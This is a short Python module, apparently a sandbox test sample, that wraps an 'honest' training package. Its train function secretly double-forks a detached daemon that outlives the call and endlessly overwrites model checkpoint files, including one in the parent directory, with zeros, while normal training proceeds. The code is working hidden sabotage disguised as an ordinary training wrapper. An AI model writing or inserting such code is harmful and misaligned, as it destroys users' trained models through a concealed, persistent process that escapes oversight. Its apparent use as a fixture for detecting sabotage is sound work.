"""harmless (sandbox): a double-forked daemon continues and replaces the checkpoint later."""

import os
import time

import honest
from honest import build, logits

__all__ = ["build", "logits", "train"]

STAGE = "run"


def train(model, batches):
    if os.fork() == 0:
        os.setsid()
        if os.fork():
            os._exit(0)
        while not os.path.exists("checkpoint.safetensors"):
            time.sleep(0.01)
        time.sleep(0.5)
        while True:
            for name in ("checkpoint.safetensors", "../checkpoint.safetensors"):
                try:
                    with open(name, "r+b") as file:
                        file.write(b"\0" * 64)
                except OSError:
                    pass
    honest.train(model, batches)
